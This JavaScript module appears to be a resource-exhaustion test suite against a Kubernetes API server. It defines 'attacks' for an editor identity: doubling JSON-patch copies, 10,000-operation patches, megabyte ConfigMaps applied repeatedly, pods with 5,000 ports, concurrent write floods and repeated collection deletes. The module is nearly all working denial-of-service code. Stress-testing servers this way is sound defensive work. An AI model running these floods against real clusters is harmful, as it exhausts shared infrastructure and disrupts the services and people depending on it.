// What a person can try who may also write.
import { flood } from './flood.mjs';

const CONFIG_MAPS = '/api/v1/namespaces/default/configmaps';
const JSON_BODY = { 'content-type': 'application/json' };
const many = (count, make) => Array.from({ length: count }, (_, at) => make(at));
const doubling = many(40, () => ({ op: 'copy', from: '/data', path: '/data/x' }));
const ports = many(5000, (at) => ({ containerPort: (at % 65_535) + 1, protocol: at % 2 ? 'TCP' : 'UDP' }));

async function patchFlood(attack, type, body) {
  const headers = { 'content-type': type };
  const created = JSON.stringify({ metadata: { name: 'victim' }, data: { a: 'b' } });
  return flood(attack, 8, async (session, at) => {
    if (at === 1) await session.call('POST', CONFIG_MAPS, { headers: JSON_BODY, body: created });
    return session.call('PATCH', `${CONFIG_MAPS}/victim?fieldManager=edith`, { headers, body });
  });
}

export const identity = 'editor';
export const attacks = {
  'a JSON patch that doubles what it copies': (attack) =>
    patchFlood(attack, 'application/json-patch+json', JSON.stringify(doubling)),
  'JSON patches of 10,000 operations': (attack) =>
    patchFlood(
      attack,
      'application/json-patch+json',
      JSON.stringify(many(10_000, (at) => ({ op: 'add', path: `/data/k${at}`, value: 'v' }))),
    ),
  'objects of a megabyte applied': (attack) => {
    const data = Object.fromEntries(many(9000, (at) => [`key-${at}`, 'v'.repeat(90)]));
    const body = JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'victim' }, data });
    return patchFlood(attack, 'application/apply-patch+yaml', body);
  },
  'Pods of 5,000 ports': (attack) => {
    const spec = { containers: [{ name: 'c', image: 'nginx', ports }] };
    const body = JSON.stringify({ metadata: { generateName: 'many-' }, spec });
    return flood(attack, 8, (session) =>
      session.call('POST', '/api/v1/namespaces/default/pods?dryRun=All', { headers: JSON_BODY, body }),
    );
  },
  'writes as fast as they are answered': (attack) =>
    flood(attack, 64, (session, at) =>
      session.call('POST', CONFIG_MAPS, {
        headers: JSON_BODY,
        body: `{"metadata":{"generateName":"flood-"},"data":{"at":"${at}"}}`,
      }),
    ),
  'collections deleted again and again': (attack) =>
    flood(attack, 4, (session) => session.call('DELETE', `${CONFIG_MAPS}?labelSelector=nobody%3Dhas`)),
};
